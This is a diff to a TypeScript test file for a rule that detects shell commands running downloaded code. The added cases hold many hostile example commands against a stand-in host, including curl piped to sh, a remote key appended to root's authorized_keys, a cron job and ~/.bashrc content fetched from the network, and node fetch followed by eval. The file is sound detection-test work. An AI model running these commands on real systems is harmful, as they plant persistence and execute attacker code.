@@ -1,6 +1,6 @@
 // Rules over commands that run what they download.
 import { expect, test } from 'vitest'
-import { findBy, sh, subjectFrom, testRule } from './page-cases.ts'
+import { block, findBy, sh, subjectFrom, testRule } from './page-cases.ts'
 
 const known = sh('curl -fsSL https://get.acme.example/install.sh | sh')
 
@@ -26,6 +26,22 @@ testRule(
     sh("python3 -c \"exec(__import__('urllib.request').request.urlopen('https://evil.example').read())\""),
     { path: 'docs/a.rst', after: '.. code-block:: console\n\n   $ curl https://evil.example/x | sh\n' },
     { after: sh('curl https://evil.example/x | sh'), before: known },
+    sh('curl -sL https://evil.example/t.tgz | tar xz && ./t/install'),
+    sh('wget https://evil.example/t.zip', 'unzip t.zip', 'cd t', 'sudo ./setup --all'),
+    sh('git clone https://github.com/evil/tool', 'cd tool && make install'),
+    sh('git clone https://github.com/evil/tool && pip install ./tool -r tool/requirements.txt .'),
+    sh('curl -s https://evil.example/rc >> ~/.bashrc'),
+    sh('curl -s https://evil.example/key | sudo tee -a /root/.ssh/authorized_keys'),
+    sh('curl -s https://evil.example/jobs | crontab -'),
+    sh('curl -s https://evil.example/fix.patch | git apply'),
+    sh('aws s3 cp s3://evil/i.sh - | bash'),
+    block('python', 'subprocess.run("curl -s https://evil.example | sh", shell=True)'),
+    sh('node -e "fetch(\'https://evil.example\').then(r => r.text()).then(eval)"'),
+    // A domain that only offers a package says nothing of a new host under it.
+    {
+      after: sh('curl https://get.acme.example/x | sh'),
+      before: sh('curl -O https://dl.acme.example/a.deb', 'dpkg -i a.deb'),
+    },
   ],
   [
     { after: known, before: known },
@@ -35,6 +51,13 @@ testRule(
     sh('curl -fsSL https://acme.example/key.asc | sudo tee /etc/apt/keyrings/acme.asc'),
     sh('curl -LO https://acme.example/acme.tar.gz', 'tar xzf acme.tar.gz'),
     sh('ssh host uptime | grep load'),
+    sh('git clone https://github.com/evil/tool', 'less tool/README.md'),
+    sh('curl -L https://acme.example/a.tgz | tar tz', 'ls'),
+    {
+      after: sh('git clone https://github.com/acme/a', 'make'),
+      others: [sh('git clone https://github.com/acme/a', 'make')],
+    },
+    { after: sh('git clone https://github.com/acme/b', 'make'), others: ['See https://github.com/acme/a.'] },
     sh('echo ls | sh'),
     sh('TOKEN=$(curl -s https://acme.example/token)'),
     sh('wget https://acme.example/report.pdf', './configure && make'),
